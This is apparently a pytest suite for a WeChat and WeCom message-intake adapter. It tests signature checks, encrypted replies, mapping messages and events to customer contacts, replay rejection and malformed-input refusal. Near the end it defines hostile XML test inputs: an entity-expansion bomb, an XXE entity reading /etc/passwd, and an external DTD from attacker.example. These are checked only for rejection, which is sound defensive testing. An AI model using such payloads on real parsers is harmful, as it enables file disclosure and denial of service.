"""WeChat and WeCom: greeting, three modes, messages as contacts, events, one answer for each message (IN-1, IN-6)."""

from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from services.intake.adapters import wechat_xml
from services.intake.adapters.sorted_sha1 import sorted_sha1
from services.intake.delivery import Accepted, Delivery, Reason, Rejected
from shared.contracts.media import MediaKind
from shared.contracts.people import Channel, ContactKind
from tests.unit.intake.given import GATEWAYS, IDENTITY, NOW, REAL, of_topic
from tests.unit.intake.social import (
    APP_ID,
    CIPHER,
    HEAD,
    OPENID,
    PLAIN,
    SEALED,
    STAMP,
    TEXT,
    TOKEN,
    accept,
    body_of,
    delivery,
    greet,
    interaction,
    interactions,
    later,
    plain,
    sealed,
    signed,
)

WECHAT, WECOM = GATEWAYS["wechat"], GATEWAYS["wecom"]
CORP = TEXT | {"ToUserName": "ww0123456789abcdef", "FromUserName": "ZhangSan", "AgentID": 1000002}


def message(kind: str, **fields: Any) -> dict[str, Any]:
    return HEAD | {"MsgType": kind, "MsgId": "1"} | fields


def event(name: str, **fields: Any) -> dict[str, Any]:
    return HEAD | {"MsgType": "event", "Event": name} | fields


def refused(it: Delivery, credentials: Any = SEALED) -> Rejected:
    with pytest.raises(Rejected) as refusal:
        accept(it, credentials)
    return refusal.value


@pytest.mark.req("IN-1")
def test_the_address_is_greeted_with_the_platforms_word() -> None:
    answer = greet(delivery(WECHAT, {**signed(TOKEN), "echostr": "5837497"}))
    assert (answer.body, answer.media_type) == (b"5837497", "text/plain")


@pytest.mark.req("IN-1")
def test_wecoms_word_comes_encrypted_and_goes_back_in_the_clear() -> None:
    word = CIPHER.encrypt(b"5927782489442352469")
    query = {**signed(TOKEN, ciphertext=word, name="msg_signature"), "echostr": word}
    assert greet(delivery(WECOM, query)).body == b"5927782489442352469"


@pytest.mark.req("IN-1", "IN-8")
@pytest.mark.parametrize(
    ("gateway", "query", "reason"),
    [
        (WECHAT, {}, Reason.SIGNATURE),
        (WECHAT, {**signed(TOKEN)}, Reason.MALFORMED),
        (WECHAT, {**signed(TOKEN), "echostr": "<script>\n"}, Reason.MALFORMED),
        (WECHAT, {**signed("another"), "echostr": "1"}, Reason.SIGNATURE),
        (WECHAT, {**signed(TOKEN, "1795300000"), "echostr": "1"}, Reason.SIGNATURE),
        (WECOM, {**signed(TOKEN), "echostr": "1"}, Reason.SIGNATURE),
        (WECOM, {**signed(TOKEN, ciphertext="AAAA", name="msg_signature"), "echostr": "AAAA"}, Reason.SIGNATURE),
        (WECOM, {**signed(TOKEN, name="msg_signature")}, Reason.MALFORMED),
    ],
)
def test_a_stranger_is_not_greeted(gateway: Any, query: dict[str, str], reason: Reason) -> None:
    with pytest.raises(Rejected) as refusal:
        greet(delivery(gateway, query))
    assert refusal.value.reason is reason


@pytest.mark.req("IN-1", "IN-3", "IN-5")
@pytest.mark.parametrize(
    "accepted",
    [accept(plain(TEXT), PLAIN), accept(sealed(TEXT)), accept(sealed(TEXT, beside=TEXT | {"Content": "forged"}))],
    ids=["plain", "safe", "compatible"],
)
def test_a_text_is_a_contact_in_every_mode(accepted: Accepted) -> None:
    contact = interaction(accepted)
    assert contact.channel is Channel.WECHAT
    assert contact.gateway == "wechat"
    assert contact.text.reveal() == TEXT["Content"]
    assert contact.tracking_numbers == ("SF1234567890123",)
    assert contact.customer.customer_id == IDENTITY.customer_id(openid=OPENID)
    assert contact.customer.reach(ContactKind.OPENID) == OPENID
    assert (contact.occurred_at.isoformat(), contact.received_at) == ("2026-11-22T08:00:00+00:00", NOW)
    assert len(of_topic(accepted, "raw.v1")) == 1


@pytest.mark.req("IN-1")
def test_the_plain_answer_is_a_passive_reply_with_the_sides_changed() -> None:
    accepted = accept(plain(TEXT), PLAIN)
    assert accepted.status == 200
    assert wechat_xml.read(body_of(accepted)) == {
        "ToUserName": OPENID,
        "FromUserName": TEXT["ToUserName"],
        "CreateTime": str(TEXT["CreateTime"]),
        "MsgType": "text",
        "Content": "您的消息已收到，正在为您处理。",
    }


@pytest.mark.req("IN-1")
@pytest.mark.parametrize("gateway", ["wechat", "wecom"])
def test_the_answer_to_an_encrypted_message_is_encrypted_and_signed(gateway: str) -> None:
    sent = TEXT if gateway == "wechat" else CORP
    envelope = wechat_xml.read(body_of(accept(sealed(sent, gateway))))
    encrypted = envelope["Encrypt"]
    assert envelope["MsgSignature"] == sorted_sha1(TOKEN, envelope["TimeStamp"], envelope["Nonce"], encrypted)
    reply = wechat_xml.read(CIPHER.decrypt(encrypted))
    assert reply["ToUserName"] == sent["FromUserName"]
    assert reply["Content"] == "您的消息已收到，正在为您处理。"


@pytest.mark.req("IN-1")
def test_who_writes_english_is_answered_in_english() -> None:
    accepted = accept(plain(TEXT | {"Content": "Where is my parcel?"}), PLAIN)
    assert wechat_xml.read(body_of(accepted))["Content"].startswith("We have received")
    assert interaction(accepted).customer.language == "en"


@pytest.mark.req("IN-6")
@pytest.mark.parametrize(("it", "credentials"), [(plain(TEXT), PLAIN), (sealed(TEXT), SEALED)])
def test_the_platforms_next_attempt_gets_the_same_ids_and_the_same_answer(it: Delivery, credentials: Any) -> None:
    first, again = accept(it, credentials), accept(later(it, 5), credentials)
    assert [m.id for m in again.messages] == [m.id for m in first.messages]
    assert again.answer == first.answer


@pytest.mark.req("IN-6")
def test_two_messages_and_two_events_are_two() -> None:
    sent = [
        TEXT,
        TEXT | {"MsgId": "2"},
        event("CLICK", EventKey="查件"),
        event("CLICK", EventKey="转人工"),
        event("SCAN"),
        event("SCAN", CreateTime=HEAD["CreateTime"] + 1),
        event("SCAN", FromUserName="oAnother"),
    ]
    assert len({accept(sealed(fields)).id for fields in sent}) == len(sent)


@pytest.mark.req("IN-6")
def test_a_message_without_an_id_is_known_by_its_content() -> None:
    anonymous = {name: value for name, value in TEXT.items() if name != "MsgId"}
    assert accept(sealed(anonymous)).id == accept(sealed(anonymous)).id
    assert accept(sealed(anonymous)).id != accept(sealed(anonymous | {"Content": "又一条"})).id


@pytest.mark.req("IN-1", "IN-3")
@pytest.mark.parametrize(
    ("fields", "text"),
    [
        (message("text"), "[空消息]"),
        (message("image", MediaId="m-1", PicUrl="http://p.example/1"), "[图片]"),
        (message("voice", MediaId="m-1", Format="amr"), "[语音]"),
        (message("voice", MediaId="m-1", Recognition="包裹丢了"), "包裹丢了\n[语音]"),
        (message("video", MediaId="m-1", ThumbMediaId="t"), "[视频]"),
        (message("shortvideo", MediaId="m-1"), "[小视频]"),
        (message("location", Location_X="23.1", Location_Y="113.3", Label="广州"), "[位置 广州 23.1,113.3]"),
        (
            message("link", Title="标题", Description="说明", Url="http://l.example"),
            "标题\n说明\n[链接 http://l.example]",
        ),
        (message("file", Title="发票.pdf", FileKey="k"), "发票.pdf\n[文件 k]"),
        (event("CLICK", EventKey="转人工"), "请求人工客服\n[菜单 转人工]"),
        (event("click", EventKey="查件"), "查询快件\n[菜单 查件]"),
    ],
)
def test_what_a_customer_sends_is_a_contact(fields: dict[str, Any], text: str) -> None:
    accepted = accept(sealed(fields))
    assert interaction(accepted).text.reveal() == text
    assert accepted.suppressed is None
    assert accepted.unknown_codes == ()


@pytest.mark.req("IN-7")
def test_a_platforms_id_is_taken_for_no_number_and_no_language() -> None:
    contact = interaction(accept(sealed(message("image", MediaId="1234567890123456789", PicUrl="http://aa/bb/cc/dd"))))
    assert (contact.order_numbers, contact.tracking_numbers, contact.customer.language) == ((), (), "zh")


@pytest.mark.req("IN-1")
def test_a_type_that_nobody_knows_is_a_contact_and_counted() -> None:
    accepted = accept(sealed(message("miniprogrampage", MediaId="m")))
    assert accepted.unknown_codes == ("miniprogrampage",)
    assert interaction(accepted).text.reveal() == "[miniprogrampage]"
    assert [m.kind for m in interaction(accepted).media] == [MediaKind.FILE]


@pytest.mark.req("IN-1", "IN-4")
@pytest.mark.parametrize(
    ("fields", "named"),
    [
        (message("text"), []),
        (message("image", MediaId="m-1", PicUrl="http://p/1"), [("image", "m-1", "http://p/1")]),
        (message("voice", MediaId="m-1", Format="amr", Recognition="包裹丢了"), [("voice", "m-1", None)]),
        (message("video", MediaId="m-1", ThumbMediaId="t"), [("video", "m-1", None)]),
        (message("shortvideo", MediaId="m-1"), [("video", "m-1", None)]),
        (message("file", Title="发票.pdf", FileKey="k"), []),
        (event("CLICK", EventKey="转人工"), []),
    ],
)
def test_media_are_named_with_what_opens_them(fields: dict[str, Any], named: list[tuple[Any, ...]]) -> None:
    media = interaction(accept(sealed(fields))).media
    assert [(m.kind, *(p and p.reveal() for p in (m.media_id, m.url))) for m in media] == named


@pytest.mark.req("IN-4", "IN-6", "SY-5")
def test_the_name_of_a_file_is_the_same_in_each_attempt_and_shows_nothing() -> None:
    picture = message("image", MediaId="m-1", PicUrl="http://p/1")
    first, again = (interaction(accept(it)).media[0] for it in (sealed(picture), later(sealed(picture), 5)))
    (another,) = interaction(accept(sealed(picture | {"MsgId": "99"}))).media
    assert first.ref == again.ref != another.ref
    assert first.ref.startswith("media:wechat/")
    assert "m-1" not in first.ref
    assert "m-1" not in repr(first)


@pytest.mark.req("IN-1")
@pytest.mark.parametrize(
    "fields",
    [
        event("subscribe", EventKey="qrscene_1"),
        event("unsubscribe"),
        event("SCAN", EventKey="1", Ticket="t"),
        event("CLICK", EventKey="今日优惠"),
        event("CLICK"),
        event("VIEW", EventKey="转人工"),
        event("LOCATION", Latitude="23", Longitude="113", Precision="119"),
        event("TEMPLATESENDJOBFINISH", MsgID="9", Status="success"),
        {"ToUserName": "ww1", "CreateTime": 1, "MsgType": "event"} | {"CreateTime": 1795334400},
    ],
)
@pytest.mark.parametrize(("gateway", "answer"), [("wechat", b"success"), ("wecom", b"")])
def test_other_events_open_no_case_but_are_kept_and_counted(
    fields: dict[str, Any], gateway: str, answer: bytes
) -> None:
    accepted = accept(sealed(fields, gateway))
    assert interactions(accepted) == []
    assert accepted.suppressed
    assert len(of_topic(accepted, "raw.v1")) == 1
    assert (accepted.status, body_of(accepted)) == (200, answer)


@pytest.mark.req("IN-5")
def test_a_member_of_one_corporation_is_nobody_in_another() -> None:
    here, there = (interaction(accept(sealed(CORP | {"ToUserName": corp}, "wecom"))) for corp in ("wwAAAA", "wwBBBB"))
    assert here.customer.customer_id != there.customer.customer_id
    assert here.customer.reach(ContactKind.OPENID) == "wecom:wwAAAA/ZhangSan"


@pytest.mark.req("IN-8", "SY-5")
def test_ids_and_keys_do_not_show_who_it_is() -> None:
    for accepted in (accept(sealed(TEXT)), accept(sealed(event("SCAN")))):
        for sent in accepted.messages:
            assert OPENID not in f"{sent.id} {sent.key}"


@pytest.mark.req("IN-8")
@pytest.mark.parametrize("seconds", [-301, 301])
def test_an_old_or_future_delivery_is_a_replay(seconds: int) -> None:
    for it, credentials in ((plain(TEXT), PLAIN), (sealed(TEXT), SEALED)):
        moved = replace(it, arrived_at=REAL + timedelta(seconds=seconds))
        assert refused(moved, credentials).reason is Reason.SIGNATURE
        accept(replace(moved, gateway=it.gateway.model_copy(update={"replay_window_s": 302})), credentials)


def resigned(fields: bytes, cipher: Any = CIPHER) -> Delivery:
    """`fields` sealed by whoever has the token, but perhaps not the key."""
    encrypted = cipher.encrypt(fields)
    query = signed(TOKEN, ciphertext=encrypted, name="msg_signature")
    return delivery(WECHAT, query, wechat_xml.write({"Encrypt": encrypted}))


@pytest.mark.req("IN-8")
@pytest.mark.parametrize(
    ("it", "credentials", "reason"),
    [
        (plain(TEXT), SEALED, Reason.SIGNATURE),
        (replace(plain(TEXT), gateway=WECOM), PLAIN, Reason.SIGNATURE),
        (sealed(TEXT), PLAIN, Reason.INVALID),
        (replace(sealed(TEXT), query=signed(TOKEN)), SEALED, Reason.SIGNATURE),
        (resigned(b"<xml/>", replace(CIPHER, app_id=b"wxother")), SEALED, Reason.SIGNATURE),
        (resigned(b"<xml/>", replace(CIPHER, app_id=b"x" + APP_ID.encode())), SEALED, Reason.SIGNATURE),
        (resigned(b"<xml/>", replace(CIPHER, key=b"k" * 32)), SEALED, Reason.SIGNATURE),
        (resigned(b"not xml"), SEALED, Reason.MALFORMED),
        (plain(HEAD), PLAIN, Reason.INVALID),
        (plain(HEAD | {"MsgType": "text", "FromUserName": ""}), PLAIN, Reason.INVALID),
        (plain(TEXT | {"FromUserName": "]]><a/>"}), PLAIN, Reason.INVALID),
        (plain(TEXT | {"CreateTime": "soon"}), PLAIN, Reason.INVALID),
        (plain(TEXT | {"CreateTime": 9999999999}), PLAIN, Reason.INVALID),
        (plain(TEXT | {"CreateTime": 0}), PLAIN, Reason.INVALID),
        (plain(TEXT | {"Content": "字" * 20_001}), PLAIN, Reason.INVALID),
        (plain(b""), PLAIN, Reason.MALFORMED),
        (plain(b"<xml><a></xml>"), PLAIN, Reason.MALFORMED),
        (plain(b"<html/>"), PLAIN, Reason.MALFORMED),
        (plain("<xml><a>é</a></xml>".encode("latin-1")), PLAIN, Reason.MALFORMED),
        (plain('<?xml version="1.0" encoding="utf-16"?><xml/>'.encode("utf-16")), PLAIN, Reason.MALFORMED),
        (plain(b"<xml>" + b"<a>" * 20 + b"</a>" * 20 + b"</xml>"), PLAIN, Reason.MALFORMED),
        (plain(b"<xml>" + b"<a/>" * 3000 + b"</xml>"), PLAIN, Reason.MALFORMED),
    ],
)
def test_what_is_wrong_is_refused_clearly(it: Delivery, credentials: Any, reason: Reason) -> None:
    assert refused(it, credentials).reason is reason


BOMB = b"""<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<xml><Content>&b;</Content></xml>"""
FILE = b"""<!DOCTYPE xml [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml><Content>&f;</Content></xml>"""
OUTSIDE = b"""<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>"""


@pytest.mark.req("IN-8")
@pytest.mark.parametrize("body", [BOMB, FILE, OUTSIDE, b"<!DOCTYPE xml><xml/>"])
def test_document_types_and_entities_are_refused_in_the_clear_and_encrypted(body: bytes) -> None:
    assert refused(plain(body), PLAIN).reason is Reason.MALFORMED
    assert refused(resigned(body)).reason is Reason.MALFORMED
    assert refused(replace(sealed(TEXT), body=body)).reason is Reason.MALFORMED


@pytest.mark.req("IN-8")
def test_nothing_is_taken_where_the_gateway_has_no_secrets() -> None:
    nothing = type(SEALED)({})
    forged = delivery(WECHAT, {"signature": sorted_sha1(STAMP, "1"), "timestamp": STAMP, "nonce": "1"})
    assert refused(forged, nothing).reason is Reason.SIGNATURE
    assert refused(sealed(TEXT, "wecom"), nothing).reason is Reason.SIGNATURE
